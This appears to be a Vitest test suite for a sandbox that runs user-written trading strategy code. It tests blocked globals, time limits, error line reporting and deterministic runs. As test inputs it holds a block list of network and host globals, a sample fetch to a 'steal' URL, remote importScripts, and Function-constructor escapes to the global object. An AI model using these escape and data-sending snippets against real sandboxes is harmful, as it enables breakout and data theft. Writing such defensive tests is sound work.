// The sandbox from the user's side: code that reaches for the network, the page, the
// global object or the Function constructor finds nothing; endless loops and runaway
// recursion are stopped by the time guards at the right line; a throw is reported at
// its line; and runs repeat exactly (seeded Math.random, no wall clock). The clock is a
// fake that advances 1 ms per read, so the limits are tested without timing anything.
import { describe, expect, it } from 'vitest';
import type { Bar } from '../../engine/bar';
import { RecordingContext } from '../../engine/strategies/recording-context';
import { barsFromCloses } from '../../engine/strategies/test-bars';
import { compileUserStrategy } from '../../engine/user-strategy/compile-user-strategy';
import { StrategyTimeoutError } from '../../engine/user-strategy/strategy-timeout-error';
import type { UserStrategyLimits } from '../../engine/user-strategy/user-strategy';
import { UserStrategyError } from '../../engine/user-strategy/user-strategy-error';
import { createUserStrategyDefinition } from './create-user-strategy-definition';
import { lockdownStrategyRealm } from './strategy-realm';

// Strategies run only in a locked-down realm (the strategy worker's); this test file's process is one.
lockdownStrategyRealm();

/** Globals of a browser worker or Node that user code must not reach: none exists in a strategy's compartment. */
const UNREACHABLE_GLOBALS = [
  'window', 'self', 'global', 'frames', 'parent', 'top', 'setTimeout', 'setInterval', 'clearTimeout', 'clearInterval', 'setImmediate',
  'requestAnimationFrame', 'Worker', 'SharedWorker', 'ServiceWorker', 'WebAssembly', 'importScripts', 'queueMicrotask', 'fetch',
  'XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'WebTransport', 'EventSource', 'RTCPeerConnection', 'Request', 'Response', 'Headers',
  'FormData', 'postMessage', 'close', 'onmessage', 'addEventListener', 'removeEventListener', 'dispatchEvent', 'EventTarget', 'Event',
  'BroadcastChannel', 'MessageChannel', 'MessagePort', 'document', 'navigator', 'location', 'indexedDB', 'caches', 'cookieStore',
  'localStorage', 'sessionStorage', 'FontFace', 'fonts', 'performance', 'crypto', 'Intl', 'SharedArrayBuffer', 'process', 'require',
  'module', 'exports', 'Buffer', 'Deno', 'Bun',
] as const;

/** A clock that moves 1 ms every time it is read. */
function tickingClock(): () => number {
  let t = 0;
  return () => ++t;
}

function definition(source: string, limits: Partial<UserStrategyLimits> = {}) {
  const compiled = compileUserStrategy(source, 'test');
  if (!compiled.ok) throw new Error(`compile failed: ${JSON.stringify(compiled.errors)}`);
  return createUserStrategyDefinition(compiled, { now: tickingClock(), ...limits });
}

function run(source: string, bars: Bar[] = barsFromCloses('A', [1, 2, 3, 4, 5]), limits: Partial<UserStrategyLimits> = {}, params: Record<string, unknown> = {}) {
  const def = definition(source, limits);
  const strategy = def.create('s1', ['A'], def.parseParams(params));
  return new RecordingContext().run(strategy, bars);
}

function failure(fn: () => unknown): Error {
  try {
    fn();
  } catch (e) {
    return e as Error;
  }
  throw new Error('expected a failure');
}

/** Line (1-based) of the first source line containing `marker`. */
function lineOf(source: string, marker: string): number {
  const i = source.split('\n').findIndex((l) => l.includes(marker));
  if (i < 0) throw new Error(`marker ${marker} not in source`);
  return i + 1;
}

describe('blocked globals', () => {
  it('every worker or Node global reads as undefined inside user code', () => {
    const names = UNREACHABLE_GLOBALS;
    const source = `
export function onBar(bar, ctx) {
  const seen = {};
  ${names.map((n) => `seen[${JSON.stringify(n)}] = typeof ${n};`).join('\n  ')}
  throw new Error(JSON.stringify(seen));
}`;
    const e = failure(() => run(source)) as UserStrategyError;
    expect(e).toBeInstanceOf(UserStrategyError);
    const seen = JSON.parse(e.detail) as Record<string, string>;
    expect(Object.keys(seen).sort()).toEqual([...UNREACHABLE_GLOBALS].sort());
    for (const name of UNREACHABLE_GLOBALS) expect([name, seen[name]]).toEqual([name, 'undefined']);
    // The test realm itself still has them: the shadowing is the sandbox's, not a side effect.
    expect(typeof fetch).toBe('function');
  });

  it.each([
    ['fetch', "fetch('https://example.com/steal?x=1');"],
    ['XMLHttpRequest', "new XMLHttpRequest();"],
    ['WebSocket', "new WebSocket('wss://example.com');"],
    ['EventSource', "new EventSource('https://example.com');"],
    ['importScripts', "importScripts('https://example.com/x.js');"],
    ['postMessage', "postMessage('hello page');"],
    ['self', "self.postMessage('x');"],
    ['globalThis', "globalThis.fetch('https://example.com');"],
    ['setTimeout', "setTimeout('1+1', 0);"],
  ])('%s cannot be used (TypeError or ReferenceError at the calling line)', (_name, statement) => {
    const source = `export function onBar(bar, ctx) {\n  const x = 1;\n  ${statement}\n}`;
    const e = failure(() => run(source)) as UserStrategyError;
    expect(e).toBeInstanceOf(UserStrategyError);
    expect(e.line).toBe(3);
    expect(e.detail).toMatch(/TypeError|ReferenceError/);
  });
});

describe('escapes to the global scope', () => {
  it.each([
    ['arrow constructor', "(() => {}).constructor('return globalThis')()"],
    ['function constructor', "(function () {}).constructor('return this')()"],
    ['generator constructor', "Object.getPrototypeOf(function* () {}).constructor('return this')"],
    ['a method of a built-in', "[].map.constructor('return this')()"],
    ['the bar’s constructor chain', "bar.constructor.constructor('return this')()"],
    ['a context method', "ctx.emitSignal.constructor('return this')()"],
    ['an indicator factory', "sma.constructor('return this')()"],
    ['Reflect.construct', "Reflect.construct([].map.constructor, ['return this'])()"],
  ])('%s: the Function constructor is blocked', (_name, expression) => {
    const source = `export function onBar(bar, ctx) {\n  const g = ${expression};\n  g.fetch('https://example.com');\n}`;
    const e = failure(() => run(source)) as UserStrategyError;
    expect(e).toBeInstanceOf(UserStrategyError);
    expect(e.detail).toMatch(/Function constructor is not available|not a valid constructor/);
    expect(e.line).toBe(2);
  });

  it('async functions (a way to AsyncFunction) do not compile', () => {
    for (const f of ['async function () {}', 'async function* () {}', 'async () => 0']) {
      const r = compileUserStrategy(`export function onBar(bar, ctx) {\n  const C = Object.getPrototypeOf(${f}).constructor;\n}`, 'x');
      expect(r.ok ? 'compiled' : r.errors[0]!.line).toBe(2);
    }
  });

  it('this is undefined in plain calls (strict code) and at the top level', () => {
    const source = `
const outer = this;
export function onBar(bar, ctx) {
  const inner = (function () { return this; })();
  if (outer === undefined && inner === undefined) ctx.emitSignal(bar.symbol, 'long');
}`;
    const signals = run(source, barsFromCloses('A', [1]));
    expect(signals.map((s) => s.direction)).toEqual(['long']);
  });

  it('the bar handed to user code is a frozen copy', () => {
    const bars = barsFromCloses('A', [10, 11]);
    const source = `export function onBar(bar, ctx) {\n  bar.close = 0;\n}`;
    const e = failure(() => run(source, bars)) as UserStrategyError;
    expect(e.line).toBe(2);
    expect(bars[0]!.close).toBe(10);
  });
});

describe('patched built-ins', () => {
  it('are frozen before any strategy runs: a patch fails at its line and nothing changes for other code', () => {
    const copyWithin = Array.prototype.copyWithin;
    for (const [statement, kind] of [
      ["Array.prototype.copyWithin = function () { return 'patched'; };", /read only/],
      ["Object.prototype.polluted = 'yes';", /not extensible/],
      ['delete Number.prototype.toExponential;', /delete/],
      ["Array.prototype.push = function () { return 0; };", /read only/],
    ] as const) {
      const e = failure(() => run(`export function onBar(bar, ctx) {\n  ${statement}\n}`, barsFromCloses('A', [1]))) as UserStrategyError;
      expect([statement, e.line]).toEqual([statement, 2]);
      expect(e.detail).toMatch(kind);
    }
    expect(Array.prototype.copyWithin).toBe(copyWithin);
    expect('polluted' in {}).toBe(false);
    expect((1500).toExponential(1)).toBe('1.5e+3');
  });

  it('a strategy’s own globals die with its compartment: the next instance starts clean', () => {
    const source = `globalThis.count = (globalThis.count ?? 0) + 1;
globalThis.Math = { sign: () => 1 };
export function onBar(bar, ctx) {
  if (globalThis.count === 1) ctx.emitSignal(bar.symbol, 'long');
}`;
    const def = definition(source);
    for (const id of ['a', 'b']) expect(new RecordingContext().run(def.create(id, ['A'], {}), barsFromCloses('A', [1])).map((s) => s.direction)).toEqual(['long']);
  });
});

describe('code called back outside init/onBar', () => {
  it('is refused at its line, and the run stops at the next bar', () => {
    const source = `export function init(ctx) {
  ctx.state.later = () => {
    return 1;
  };
}
export function onBar(bar, ctx) {}`;
    const def = definition(source);
    const strategy = def.create('s', ['A'], {});
    const leaked = (strategy as unknown as { self: { state: { later: () => number } } }).self.state.later;
    const e = failure(() => leaked()) as UserStrategyError;
    expect([e.phase, e.line]).toEqual(['callback', 2]);
    expect(e.detail).toMatch(/outside init\/onBar/);
    const next = failure(() => new RecordingContext().run(strategy, barsFromCloses('A', [1]))) as UserStrategyError;
    expect(next).toBe(e);
  });

  it('async functions and await are compile errors', () => {
    const r = compileUserStrategy(`export async function onBar(bar, ctx) {\n  await 1;\n}`, 'a');
    expect(r.ok ? [] : r.errors.map((e) => [e.line, e.message.slice(0, 20)])).toEqual([
      [1, 'Async functions are '],
      [2, "'await' is not avail"],
    ]);
  });
});

describe('time limits', () => {
  it('an endless while(true) stops at the per-bar limit with its line', () => {
    const source = `export const params = {};
export function onBar(bar, ctx) {
  let i = 0;
  while (true) {
    i++;
  }
}`;
    const e = failure(() => run(source, undefined, { perBarMs: 50 })) as StrategyTimeoutError;
    expect(e).toBeInstanceOf(StrategyTimeoutError);
    expect(e.budget).toBe('bar');
    expect(e.limitMs).toBe(50);
    expect(e.line).toBe(4);
    expect(e.message).toMatch(/line 4/);
  });

  it.each([
    ['for(;;);', 'for (;;);'],
    ['do-while', 'do { n++; } while (n > -1);'],
    ['for-of over an endless generator', 'for (const x of (function* () { while (true) yield 1; })()) n += x;'],
    ['for-in inside an endless loop', 'for (;;) for (const k in { a: 1 }) n++;'],
    ['a loop without braces', 'while (n >= 0) n++;'],
  ])('%s is stopped too', (_name, loop) => {
    const source = `export function onBar(bar, ctx) {\n  let n = 0;\n  ${loop}\n}`;
    const e = failure(() => run(source, undefined, { perBarMs: 50 })) as StrategyTimeoutError;
    expect(e).toBeInstanceOf(StrategyTimeoutError);
    expect(e.line).toBe(3);
  });

  it('catching the timeout does not keep a loop alive', () => {
    const source = `export function onBar(bar, ctx) {
  for (;;) {
    try {
      while (true) {}
    } catch (e) {
      // swallow and go on
    }
  }
}`;
    const e = failure(() => run(source, undefined, { perBarMs: 50 })) as StrategyTimeoutError;
    expect(e).toBeInstanceOf(StrategyTimeoutError);
    expect(e.line).toBe(4);
  });

  it('a long recursion stops at the recursive function’s line', () => {
    const source = `
function fib(n: number): number {
  return n < 2 ? n : fib(n - 1) + fib(n - 2);
}
export function onBar(bar: Bar, ctx: BarContext): void {
  if (fib(60) > 0) ctx.emitSignal(bar.symbol, 'long');
}`;
    const e = failure(() => run(source, undefined, { perBarMs: 50 })) as StrategyTimeoutError;
    expect(e).toBeInstanceOf(StrategyTimeoutError);
    expect(e.line).toBe(2);
  });

  it('a recursion that never ends is reported at its line', () => {
    const source = `
const down = (n) => down(n + 1);
export function onBar(bar, ctx) { down(0); }`;
    const e = failure(() => run(source, undefined, { perBarMs: 1e9 }));
    // Either the stack overflows first (a RangeError located at the arrow) or the budget trips there.
    expect((e as UserStrategyError | StrategyTimeoutError).line).toBe(2);
  });

  it('bars that each stay within the per-bar limit still stop at the per-run limit', () => {
    // 1000 loop passes read the fake clock ~4 times: ~6 ms per bar, 20 bars ≈ 120 ms > 100 ms.
    const source = `export function onBar(bar, ctx) {
  let s = 0;
  for (let i = 0; i < 1000; i++) s += i;
  if (s < 0) ctx.emitSignal(bar.symbol, 'long');
}`;
    const bars = barsFromCloses('A', Array.from({ length: 40 }, (_, i) => 100 + i));
    const e = failure(() => run(source, bars, { perBarMs: 50, perRunMs: 100 })) as StrategyTimeoutError;
    expect(e).toBeInstanceOf(StrategyTimeoutError);
    expect(e.budget).toBe('run');
    expect(e.line).toBe(3);
  });

  it('an endless loop at the top level or in init stops while the strategy is created', () => {
    const top = `let n = 0;\nwhile (true) n++;\nexport function onBar(bar, ctx) {}`;
    const e1 = failure(() => definition(top, { perBarMs: 50 }).create('s', ['A'], {})) as StrategyTimeoutError;
    expect([e1.name, e1.line]).toEqual(['StrategyTimeoutError', 2]);
    const init = `export function init(ctx) {\n  for (;;) {}\n}\nexport function onBar(bar, ctx) {}`;
    const e2 = failure(() => definition(init, { perBarMs: 50 }).create('s', ['A'], {})) as StrategyTimeoutError;
    expect([e2.name, e2.line]).toEqual(['StrategyTimeoutError', 2]);
  });
});

describe('errors in user code', () => {
  it('a throw is reported at its line of the TypeScript source, types and all', () => {
    const source = `interface Memo {
  count: number;
  last?: number;
}
type Pair = [number, number];
const memo: Memo = { count: 0 };

export function onBar(bar: Bar, ctx: BarContext): void {
  memo.count++;
  const p: Pair = [bar.close, memo.count];
  if (memo.count === 3) {
    throw new Error(\`boom at bar \${p[1]}\`);
  }
}`;
    const e = failure(() => run(source)) as UserStrategyError;
    expect(e).toBeInstanceOf(UserStrategyError);
    expect(e.phase).toBe('onBar');
    expect(e.line).toBe(lineOf(source, 'throw new Error'));
    expect(e.detail).toBe('boom at bar 3');
    expect(e.message).toMatch(/line 12/);
  });

  it('a throw in a CRLF source is reported at its line', () => {
    const source = ['export function onBar(bar, ctx) {', '  const a = 1;', "  throw new Error('crlf');", '}'].join('\r\n');
    expect((failure(() => run(source)) as UserStrategyError).line).toBe(3);
  });

  it('a TypeError inside a helper is reported at the helper’s line', () => {
    const source = `function last(xs) {
  return xs[xs.length - 1].value;
}
export function onBar(bar, ctx) {
  last([]);
}`;
    const e = failure(() => run(source)) as UserStrategyError;
    expect([e.line, e.detail.startsWith('TypeError')]).toEqual([2, true]);
  });

  it('init failures carry phase init and their line; a non-Error throw (no stack) is placed at its function', () => {
    const e = failure(() => definition(`export function init(ctx) {\n  throw new RangeError('bad params');\n}\nexport function onBar() {}`).create('s', ['A'], {})) as UserStrategyError;
    expect([e.phase, e.line, e.detail]).toEqual(['init', 2, 'RangeError: bad params']);
    const source = `export function onBar() {}\nexport function init(ctx) {\n  const x = 1;\n  throw 'bad params';\n}`;
    const s = failure(() => definition(source).create('s', ['A'], {})) as UserStrategyError;
    expect([s.phase, s.line, s.detail]).toEqual(['init', 2, 'threw "bad params"']);
  });

  it('making an indicator in onBar is an error that says where to make it', () => {
    const e = failure(() => run(`export function onBar(bar, ctx) {\n  const s = sma(10);\n}`)) as UserStrategyError;
    expect(e.detail).toMatch(/call it in init\(\)/);
    expect(e.line).toBe(2);
  });

  it('emitSignal checks symbol, direction and strength', () => {
    const bad = (call: string) => failure(() => run(`export function onBar(bar, ctx) {\n  ${call};\n}`)) as UserStrategyError;
    expect(bad("ctx.emitSignal('ZZZ', 'long')").detail).toMatch(/'ZZZ' is not one of this strategy's symbols \(A\)/);
    expect(bad("ctx.emitSignal(bar.symbol, 'buy')").detail).toMatch(/direction must be 'long', 'short' or 'flat'/);
    expect(bad("ctx.emitSignal(bar.symbol, 'long', 2)").detail).toMatch(/strength must be a number in \[0, 1\]/);
  });

  it('a bar that throws after emitting publishes none of its signals', () => {
    const source = `export function onBar(bar, ctx) {\n  ctx.emitSignal(bar.symbol, 'long');\n  if (bar.close === 2) throw new Error('late');\n}`;
    const def = definition(source);
    const rec = new RecordingContext();
    expect(() => rec.run(def.create('s', ['A'], {}), barsFromCloses('A', [1, 2]))).toThrow(/late/);
    expect(rec.signals.map((s) => s.timestamp)).toEqual([barsFromCloses('A', [1])[0]!.timestamp]);
  });
});

describe('state, params and determinism', () => {
  const COUNTER = `export const params = { every: { default: 2, min: 1, max: 10 } };
let n = 0;
export function onBar(bar, ctx) {
  n++;
  this.state.seen = (this.state.seen ?? 0) + 1;
  if (n % ctx.params.every === 0 && this.state.seen === n) ctx.emitSignal(bar.symbol, n % 4 === 0 ? 'flat' : 'long', Math.random());
}`;

  it('module variables and this.state are per strategy instance; params reach ctx.params', () => {
    const def = definition(COUNTER);
    const bars = barsFromCloses('A', [1, 2, 3, 4, 5, 6]);
    const a = def.create('s1', ['A'], def.parseParams({ every: 3 }));
    const b = def.create('s2', ['A'], def.parseParams({}));
    const ra = new RecordingContext().run(a, bars);
    const rb = new RecordingContext().run(b, bars);
    expect(ra.map((s) => s.barIndex)).toEqual([2, 5]);
    expect(rb.map((s) => s.barIndex)).toEqual([1, 3, 5]);
  });

  it('Math.random is seeded by the strategy id: the same run repeats exactly, another id differs', () => {
    const def = definition(COUNTER);
    const bars = barsFromCloses('A', [1, 2, 3, 4, 5, 6]);
    const once = () => new RecordingContext().run(def.create('s1', ['A'], def.parseParams({ every: 1 })), bars).map((s) => s.strength);
    const first = once();
    expect(first).toHaveLength(6);
    expect(new Set(first).size).toBe(6);
    expect(once()).toEqual(first);
    const other = new RecordingContext().run(def.create('s9', ['A'], def.parseParams({ every: 1 })), bars).map((s) => s.strength);
    expect(other).not.toEqual(first);
  });

  it('the wall clock is not available, bar times are', () => {
    expect((failure(() => run(`export function onBar(bar, ctx) {\n  Date.now();\n}`)) as UserStrategyError).detail).toMatch(/wall clock/);
    expect((failure(() => run(`export function onBar(bar, ctx) {\n  new Date();\n}`)) as UserStrategyError).detail).toMatch(/wall clock/);
    const signals = run(`export function onBar(bar, ctx) {\n  if (new Date(bar.timestamp).getUTCDate() === 2) ctx.emitSignal(bar.symbol, 'long');\n}`);
    expect(signals.map((s) => s.barIndex)).toEqual([1]);
  });

  it('bars of another timeframe do not reach onBar (the studio-added timeframe param)', () => {
    const day = barsFromCloses('A', [1, 2, 3]);
    const hour = barsFromCloses('A', [1, 2, 3], '1h', 3_600_000).map((b) => ({ ...b, timestamp: b.timestamp + 1 }));
    const stream = [...day, ...hour].sort((x, y) => x.timestamp - y.timestamp);
    const source = `export function onBar(bar, ctx) { ctx.emitSignal(bar.symbol, 'long', bar.timeframe === '1h' ? 0.5 : 1); }`;
    const def = definition(source);
    const hourly = new RecordingContext().run(def.create('s', ['A'], def.parseParams({ timeframe: '1h' })), stream);
    expect(hourly.map((s) => s.strength)).toEqual([0.5, 0.5, 0.5]);
    const first = new RecordingContext().run(def.create('s', ['A'], def.parseParams({})), stream);
    expect(first).toHaveLength(3);
    expect(() => def.parseParams({ evry: 1 })).toThrow(/unknown/);
  });
});
